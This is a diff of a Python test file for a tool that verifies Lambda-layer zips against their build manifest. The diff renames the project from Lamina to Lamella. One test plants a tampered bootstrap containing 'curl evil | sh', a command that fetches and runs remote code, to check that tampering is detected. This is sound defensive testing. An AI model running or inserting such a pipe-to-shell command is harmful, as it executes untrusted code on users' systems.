@@ -64,12 +64,12 @@ def test_another_packing_of_the_same_files_is_verified(run: Verify, layer_zip: P
 
 def test_files_that_were_changed_added_and_lost(run: Verify, layer_zip: Path) -> None:
     changes = {"bootstrap": b"#!/bin/sh\ncurl evil | sh\n", "python/sitecustomize.py": b"evil"}
-    edit(layer_zip, {**changes, "python/lamina/types.py": None})
+    edit(layer_zip, {**changes, "python/lamella/types.py": None})
     status, output, _ = run(layer_zip)
     assert status == 1
     assert "differs  3 of " in output
     assert (
-        "  bootstrap, python/lamina/types.py\n"
+        "  bootstrap, python/lamella/types.py\n"
         "      is not what the zip's own manifest says: it was changed or lost after the build\n"
         "  python/sitecustomize.py\n"
         "      is not in the zip's own manifest: it was added after the build, as a signature is\n"
@@ -78,13 +78,15 @@ def test_files_that_were_changed_added_and_lost(run: Verify, layer_zip: Path) ->
 
 def test_a_layer_of_another_version_names_the_tag(run: Verify, layer_zip: Path) -> None:
     with zipfile.ZipFile(layer_zip) as opened:
-        manifest = opened.read("lamina/manifest.json").decode()
+        manifest = opened.read("lamella/manifest.json").decode()
     version = build.version(build.ROOT)
     other = manifest.replace(f'"version": "{version}"', '"version": "99.1.2"')
-    edit(layer_zip, {"lamina/manifest.json": other.encode()})
+    edit(layer_zip, {"lamella/manifest.json": other.encode()})
     status, output, _ = run(layer_zip)
     assert status == 1
-    assert f"the zip is Lamina 99.1.2, this checkout {version}: check out the tag v99.1.2" in output
+    assert (
+        f"the zip is Lamella 99.1.2, this checkout {version}: check out the tag v99.1.2" in output
+    )
 
 
 def test_a_file_that_is_no_layer(run: Verify, tmp_path: Path) -> None:
